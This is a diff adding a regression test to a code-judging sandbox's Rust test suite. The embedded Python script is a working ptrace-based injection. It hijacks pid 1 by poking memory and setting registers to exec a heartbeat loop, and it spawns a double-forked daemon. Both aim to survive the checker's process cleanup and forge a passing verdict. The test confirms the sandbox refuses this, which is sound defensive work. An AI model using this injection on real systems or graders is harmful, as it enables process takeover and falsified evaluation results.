@@ -1252,6 +1252,134 @@ async fn ptracing_pid_1_and_every_other_process_is_refused_and_judged_failed(bac
     );
 }
 
+/// The forged-verdict attack's first step, performed for real: the
+/// candidate of the test-cases stage ptrace-attaches pid 1 and makes it
+/// exec a loop of its own, which the checker's `kill(-1)` between stages
+/// cannot reach (the kernel exempts pid 1), so it lived on into the pytest
+/// stage. (The injection itself, execve through `PTRACE_SETREGS` at a
+/// process blocked in a syscall, works against a same-uid process on this
+/// kernel.) A double-forked daemon tries the plain way. The runner of the
+/// pytest stage reports what still beats; today the attach is refused and
+/// nothing of stage 1 survives.
+const PID_1_TAKEOVER: &str = r#"
+import ctypes, os, struct, sys, time
+
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.restype = ctypes.c_long
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+PEEKTEXT, POKETEXT, POKEDATA, GETREGS, SETREGS, ATTACH, DETACH = 1, 4, 5, 12, 13, 16, 17
+
+
+class Regs(ctypes.Structure):
+    _fields_ = [(n, ctypes.c_ulonglong) for n in (
+        'r15', 'r14', 'r13', 'r12', 'rbp', 'rbx', 'r11', 'r10', 'r9', 'r8', 'rax', 'rcx', 'rdx', 'rsi',
+        'rdi', 'orig_rax', 'rip', 'cs', 'eflags', 'rsp', 'ss', 'fs_base', 'gs_base', 'ds', 'es', 'fs', 'gs')]
+
+
+def heartbeat(path):
+    return ("import ctypes, time\nctypes.CDLL(None).prctl(15, b'MARKER', 0, 0, 0)\nwhile True:\n"
+            "    with open(%r, 'w') as f:\n        f.write(repr(time.time()))\n    time.sleep(0.02)\n" % path)
+
+
+def take_over(pid, beat):
+    """The review's attack: ptrace-attach `pid` and make it exec a loop that
+    writes `beat` every 20 ms. Returns what happened."""
+    if libc.ptrace(ATTACH, pid, None, None) != 0:
+        return 'attach refused (errno %d)' % ctypes.get_errno()
+    os.waitpid(pid, 0x40000000)  # __WALL
+    regs = Regs()
+    if libc.ptrace(GETREGS, pid, None, ctypes.byref(regs)) != 0:
+        libc.ptrace(DETACH, pid, None, None)
+        return 'getregs refused (errno %d)' % ctypes.get_errno()
+    args = [sys.executable.encode() + b'\0', b'-c\0', heartbeat(beat).encode() + b'\0']
+    size = sum(len(a) for a in args)
+    sp = (regs.rsp - 8192 - size - 64) & ~0xf
+    blob, ptrs = b'', []
+    for a in args:
+        ptrs.append(sp + len(blob))
+        blob += a
+    blob = blob.ljust((len(blob) + 7) & ~7, b'\0')
+    argv = sp + len(blob)
+    blob += struct.pack('<4Q', ptrs[0], ptrs[1], ptrs[2], 0)
+    for off in range(0, len(blob), 8):
+        word = struct.unpack_from('<Q', blob, off)[0]
+        libc.ptrace(POKEDATA, pid, ctypes.c_void_p(sp + off), ctypes.c_void_p(word))
+    text = libc.ptrace(PEEKTEXT, pid, ctypes.c_void_p(regs.rip), None)
+    libc.ptrace(POKETEXT, pid, ctypes.c_void_p(regs.rip),
+                ctypes.c_void_p(((text & ~0xffff) | 0x050f) & 0xffffffffffffffff))  # syscall
+    regs.rax, regs.rdi, regs.rsi, regs.rdx = 59, ptrs[0], argv, 0  # execve
+    regs.orig_rax, regs.rsp = 0xffffffffffffffff, sp  # no syscall restart
+    libc.ptrace(SETREGS, pid, None, ctypes.byref(regs))
+    libc.ptrace(DETACH, pid, None, None)
+    return 'took over pid %d' % pid
+
+
+def alive(beat):
+    """Whether something still writes `beat`."""
+    try:
+        before = os.stat(beat).st_mtime_ns
+    except OSError:
+        return False
+    time.sleep(0.3)
+    try:
+        return os.stat(beat).st_mtime_ns != before
+    except OSError:
+        return False
+
+
+def daemon(beat):
+    """The same loop, in a double-forked process of its own session."""
+    if os.fork() != 0:
+        return
+    os.setsid()
+    if os.fork() != 0:
+        os._exit(0)
+    os.execv(sys.executable, [sys.executable, '-c', heartbeat(beat)])
+
+
+STAGE = '/tmp/kiln-stage-MARKER'
+BEATS = {'pid 1': '/tmp/kiln-beat-pid1-MARKER', 'a daemon': '/tmp/kiln-beat-daemon-MARKER'}
+if not os.path.exists(STAGE):
+    # The test cases' runner: plant the survivors.
+    open(STAGE, 'w').close()
+    SEEN = 'stage 1: ' + take_over(1, BEATS['pid 1'])
+    daemon(BEATS['a daemon'])
+    SURVIVORS = []
+else:
+    # The runner of the spec's tests: is anything of stage 1 still running?
+    SURVIVORS = [who for who, beat in BEATS.items() if alive(beat)]
+    SEEN = 'stage 2: survivors %s' % SURVIVORS
+
+
+def escaped():
+    return True if SURVIVORS else SEEN
+"#;
+
+async fn taking_over_pid_1_to_survive_kill_minus_1_between_stages_is_refused_and_judged_failed(backend: Backend) {
+    let tests = "from solution import *\n\n\ndef test_escaped():\n    assert escaped() is True\n";
+    let (report, _) = judged_failed(backend, |m| {
+        job(
+            "escaped",
+            PID_1_TAKEOVER,
+            m,
+            vec![(json!([]), json!(true))],
+            Some(tests),
+        )
+    })
+    .await;
+    // Both stages ran the probe: the first was refused pid 1, the second
+    // found nothing of the first alive.
+    let messages: Vec<&str> = report.cases.iter().map(|c| c.message.as_str()).collect();
+    assert!(
+        messages.iter().any(|m| m.contains("stage 1: attach refused")),
+        "{report:#?}"
+    );
+    assert!(
+        messages.iter().any(|m| m.contains("stage 2: survivors []")),
+        "{report:#?}"
+    );
+}
+
 /// Kernel keyrings are not namespaced by the run: a key one run added
 /// appeared in a concurrent run's `/proc/keys`. The keyring calls are
 /// refused outright.
@@ -1320,5 +1448,6 @@ for_both_backends!(
     stopping_every_other_process_is_judged_failed,
     stealing_the_nonce_to_forge_a_report_is_judged_failed,
     ptracing_pid_1_and_every_other_process_is_refused_and_judged_failed,
+    taking_over_pid_1_to_survive_kill_minus_1_between_stages_is_refused_and_judged_failed,
     the_kernel_keyrings_are_out_of_reach_and_judged_failed,
 );
